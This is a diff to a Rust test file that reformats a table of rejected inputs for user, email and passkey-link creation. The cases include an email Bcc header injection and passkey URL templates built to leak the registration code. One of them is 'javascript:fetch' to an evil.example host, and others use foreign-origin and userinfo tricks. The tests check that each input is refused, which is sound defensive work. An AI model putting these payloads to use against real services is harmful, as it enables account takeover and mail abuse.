@@ -30,6 +30,7 @@ async fn every_bad_input_is_a_typed_error_and_appends_nothing() {
         email: email.into(),
         is_email_verified: true,
         preferred_language: None,
+        ..Default::default()
     };
     let v2 = |template: &str| CreatePasskeyRegistrationLinkRequest {
         user_id: f.ada.clone(),
@@ -43,28 +44,197 @@ async fn every_bad_input_is_a_typed_error_and_appends_nothing() {
     };
     let before = store.len();
     let cases: Vec<Case> = vec![
-        ("empty user id", ok(s.add_passwordless_registration(&sys, None, add("")).await), "Errors.IDMissing"),
-        ("oversized user id", ok(s.add_passwordless_registration(&sys, None, add(&long)).await), "Errors.Invalid.ID"),
-        ("control character in user id", ok(s.add_passwordless_registration(&sys, None, add("u\u{7}1")).await), "Errors.Invalid.ID"),
-        ("whitespace in org context", ok(s.add_passwordless_registration(&sys, Some("org a"), add(&f.ada)).await), "Errors.Invalid.ID"),
-        ("oversized user name", ok(s.add_human_user(&sys, org, human(&long, "A", "a@example.com")).await), "Errors.User.Invalid"),
-        ("oversized display name", ok(s.add_human_user(&sys, org, human("a", &long, "a@example.com")).await), "Errors.User.Invalid"),
-        ("control character in a name", ok(s.add_human_user(&sys, org, human("a\nb", "A", "a@example.com")).await), "Errors.User.Invalid"),
-        ("oversized email", ok(s.add_human_user(&sys, org, human("a", "A", &format!("{}@example.com", "a".repeat(250)))).await), "Errors.User.Email.Invalid"),
-        ("invalid email", ok(s.add_human_user(&sys, org, human("a", "A", "not-an-email")).await), "Errors.User.Email.Invalid"),
-        ("recipient injection", ok(s.add_human_user(&sys, org, human("a", "A", "a@example.com\r\nBcc: x@evil.example")).await), "Errors.User.Email.Invalid"),
-        ("two recipients", ok(s.update_user(&sys, None, &f.ada, UserCommand::ChangeEmail { email: "a@example.com,b@evil.example".into() }).await), "Errors.User.Email.Invalid"),
-        ("oversized org name", ok(s.add_org(&sys, AddOrgRequest { name: long.clone() }).await), "Errors.User.Invalid"),
-        ("unknown placeholder", ok(s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{.Secret}}")).await), "Errors.User.InvalidURLTemplate"),
-        ("unbalanced braces", ok(s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{.Code}")).await), "Errors.User.InvalidURLTemplate"),
-        ("stray closing braces", ok(s.create_passkey_registration_link(&sys, v2("https://id.example.com/}}{{.Code}}")).await), "Errors.User.InvalidURLTemplate"),
-        ("template action", ok(s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{range .}}")).await), "Errors.User.InvalidURLTemplate"),
-        ("javascript scheme", ok(s.create_passkey_registration_link(&sys, v2("javascript:fetch('//evil.example/'+'{{.Code}}')")).await), "Errors.User.InvalidURLTemplate"),
-        ("foreign origin", ok(s.create_passkey_registration_link(&sys, v2("https://evil.example/{{.Code}}")).await), "Errors.User.InvalidURLTemplate"),
-        ("userinfo origin trick", ok(s.create_passkey_registration_link(&sys, v2("https://id.example.com@evil.example/{{.Code}}")).await), "Errors.User.InvalidURLTemplate"),
-        ("plain http template", ok(s.create_passkey_registration_link(&sys, v2("http://id.example.com/{{.Code}}")).await), "Errors.User.InvalidURLTemplate"),
-        ("oversized template", ok(s.create_passkey_registration_link(&sys, v2(&format!("https://id.example.com/{}{{{{.Code}}}}", "a".repeat(190)))).await), "Errors.User.InvalidURLTemplate"),
-        ("both v2 media", ok(s.create_passkey_registration_link(&sys, CreatePasskeyRegistrationLinkRequest { user_id: f.ada.clone(), send_link: Some(SendLink::default()), return_code: Some(ReturnCode {}) }).await), "Errors.Invalid.Argument"),
+        (
+            "empty user id",
+            ok(s.add_passwordless_registration(&sys, None, add("")).await),
+            "Errors.IDMissing",
+        ),
+        (
+            "oversized user id",
+            ok(s.add_passwordless_registration(&sys, None, add(&long))
+                .await),
+            "Errors.Invalid.ID",
+        ),
+        (
+            "control character in user id",
+            ok(s.add_passwordless_registration(&sys, None, add("u\u{7}1"))
+                .await),
+            "Errors.Invalid.ID",
+        ),
+        (
+            "whitespace in org context",
+            ok(
+                s.add_passwordless_registration(&sys, Some("org a"), add(&f.ada))
+                    .await,
+            ),
+            "Errors.Invalid.ID",
+        ),
+        (
+            "oversized user name",
+            ok(
+                s.add_human_user(&sys, org, human(&long, "A", "a@example.com"))
+                    .await,
+            ),
+            "Errors.User.Invalid",
+        ),
+        (
+            "oversized display name",
+            ok(
+                s.add_human_user(&sys, org, human("a", &long, "a@example.com"))
+                    .await,
+            ),
+            "Errors.User.Invalid",
+        ),
+        (
+            "control character in a name",
+            ok(
+                s.add_human_user(&sys, org, human("a\nb", "A", "a@example.com"))
+                    .await,
+            ),
+            "Errors.User.Invalid",
+        ),
+        (
+            "oversized email",
+            ok(s.add_human_user(
+                &sys,
+                org,
+                human("a", "A", &format!("{}@example.com", "a".repeat(250))),
+            )
+            .await),
+            "Errors.User.Email.Invalid",
+        ),
+        (
+            "invalid email",
+            ok(s.add_human_user(&sys, org, human("a", "A", "not-an-email"))
+                .await),
+            "Errors.User.Email.Invalid",
+        ),
+        (
+            "recipient injection",
+            ok(s.add_human_user(
+                &sys,
+                org,
+                human("a", "A", "a@example.com\r\nBcc: x@evil.example"),
+            )
+            .await),
+            "Errors.User.Email.Invalid",
+        ),
+        (
+            "two recipients",
+            ok(s.update_user(
+                &sys,
+                None,
+                &f.ada,
+                UserCommand::ChangeEmail {
+                    email: "a@example.com,b@evil.example".into(),
+                },
+            )
+            .await),
+            "Errors.User.Email.Invalid",
+        ),
+        (
+            "oversized org name",
+            ok(s.add_org(
+                &sys,
+                AddOrgRequest {
+                    name: long.clone(),
+                    ..Default::default()
+                },
+            )
+            .await),
+            "Errors.User.Invalid",
+        ),
+        (
+            "unknown placeholder",
+            ok(
+                s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{.Secret}}"))
+                    .await,
+            ),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "unbalanced braces",
+            ok(
+                s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{.Code}"))
+                    .await,
+            ),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "stray closing braces",
+            ok(
+                s.create_passkey_registration_link(&sys, v2("https://id.example.com/}}{{.Code}}"))
+                    .await,
+            ),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "template action",
+            ok(
+                s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{range .}}"))
+                    .await,
+            ),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "javascript scheme",
+            ok(s.create_passkey_registration_link(
+                &sys,
+                v2("javascript:fetch('//evil.example/'+'{{.Code}}')"),
+            )
+            .await),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "foreign origin",
+            ok(
+                s.create_passkey_registration_link(&sys, v2("https://evil.example/{{.Code}}"))
+                    .await,
+            ),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "userinfo origin trick",
+            ok(s.create_passkey_registration_link(
+                &sys,
+                v2("https://id.example.com@evil.example/{{.Code}}"),
+            )
+            .await),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "plain http template",
+            ok(
+                s.create_passkey_registration_link(&sys, v2("http://id.example.com/{{.Code}}"))
+                    .await,
+            ),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "oversized template",
+            ok(s.create_passkey_registration_link(
+                &sys,
+                v2(&format!(
+                    "https://id.example.com/{}{{{{.Code}}}}",
+                    "a".repeat(190)
+                )),
+            )
+            .await),
+            "Errors.User.InvalidURLTemplate",
+        ),
+        (
+            "both v2 media",
+            ok(s.create_passkey_registration_link(
+                &sys,
+                CreatePasskeyRegistrationLinkRequest {
+                    user_id: f.ada.clone(),
+                    send_link: Some(SendLink::default()),
+                    return_code: Some(ReturnCode {}),
+                },
+            )
+            .await),
+            "Errors.Invalid.Argument",
+        ),
     ];
     for (name, result, key) in cases {
         let err = result.expect_err(name);
@@ -77,11 +247,26 @@ async fn every_bad_input_is_a_typed_error_and_appends_nothing() {
 
 #[test]
 fn bad_configuration_is_refused_with_typed_errors() {
-    assert_eq!(BaseUrl::parse("http://id.example.com"), Err(LinkError::InsecureScheme));
-    assert_eq!(BaseUrl::parse("id.example.com"), Err(LinkError::NotAbsolute));
+    assert_eq!(
+        BaseUrl::parse("http://id.example.com"),
+        Err(LinkError::InsecureScheme)
+    );
+    assert_eq!(
+        BaseUrl::parse("id.example.com"),
+        Err(LinkError::NotAbsolute)
+    );
     let policy = Policy::default();
-    for ttl in [Duration::minutes(4), Duration::hours(25), Duration::zero(), Duration::minutes(-5)] {
-        assert_eq!(policy.clone().with_lifetime(ttl), Err(PolicyError::Lifetime), "{ttl}");
+    for ttl in [
+        Duration::minutes(4),
+        Duration::hours(25),
+        Duration::zero(),
+        Duration::minutes(-5),
+    ] {
+        assert_eq!(
+            policy.clone().with_lifetime(ttl),
+            Err(PolicyError::Lifetime),
+            "{ttl}"
+        );
     }
     assert!(matches!(
         SecretConfig::new(12, true, true, true, false),
